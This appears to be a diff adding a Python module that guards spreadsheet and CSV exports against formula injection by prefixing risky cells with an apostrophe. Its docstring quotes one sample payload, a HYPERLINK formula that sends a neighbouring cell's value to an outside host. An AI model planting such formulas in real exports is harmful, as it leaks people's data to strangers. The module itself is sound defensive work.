@@ -1,0 +1,61 @@
+"""Spreadsheet exports: every cell written from people's text stays text.
+
+A name, a department, a team or a choice is typed by a member, and a spreadsheet program turns
+a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some programs
+strip before looking) into a live formula: `=HYPERLINK("http://x.cn/?"&C3,"吴老师")` sends the
+next cell to a stranger when clicked. So every export writes its cells through this module:
+
+- `safe_cell(value)` neutralises a text the way OWASP recommends for CSV injection: tabs and
+  carriage returns inside it become spaces, and a text whose first visible character is one of
+  `= + - @` (or that started with a tab or carriage return) gets a leading apostrophe `'`. The
+  apostrophe stays visible in the cell: the reader sees that the text was neutralised, and it
+  still reads as text when the sheet is copied, saved as CSV or edited. Control characters
+  that a workbook cannot hold are dropped. Numbers, dates and empty cells pass through
+  unchanged; other texts are not touched.
+- `append_row(sheet, values)` appends a row of neutralised values to an openpyxl sheet and
+  marks every text cell as a string cell (data type "s"), so even a value that slipped past the
+  check is never stored as a formula.
+- `safe_row(values)` is the same for a csv.writer row.
+
+New exports use these too; nothing else in the code writes a cell.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+from datetime import date, datetime, time
+from typing import TypeAlias
+
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+from openpyxl.worksheet.worksheet import Worksheet
+
+CellValue: TypeAlias = str | int | float | bool | date | datetime | time | None
+
+FORMULA_STARTS = ("=", "+", "-", "@")
+NEUTRALISER = "'"
+
+
+def safe_cell(value: CellValue) -> CellValue:
+    """The value as a spreadsheet may show it: a text can never start a formula."""
+    if not isinstance(value, str) or not value:
+        return value
+    started_with_control = value[0] in "\t\r"
+    text = ILLEGAL_CHARACTERS_RE.sub("", value.replace("\t", " ").replace("\r", " "))
+    if started_with_control or text.lstrip().startswith(FORMULA_STARTS):
+        return NEUTRALISER + text
+    return text
+
+
+def safe_row(values: Iterable[CellValue]) -> list[CellValue]:
+    """A row of neutralised values (for csv.writer)."""
+    return [safe_cell(value) for value in values]
+
+
+def append_row(sheet: Worksheet, values: Iterable[CellValue]) -> None:
+    """Append a row of neutralised values to an xlsx sheet, every text as a string cell."""
+    row = safe_row(values)
+    sheet.append(row)
+    for cell, value in zip(sheet[sheet.max_row], row, strict=False):
+        if isinstance(value, str):
+            cell.value = value
+            cell.data_type = "s"
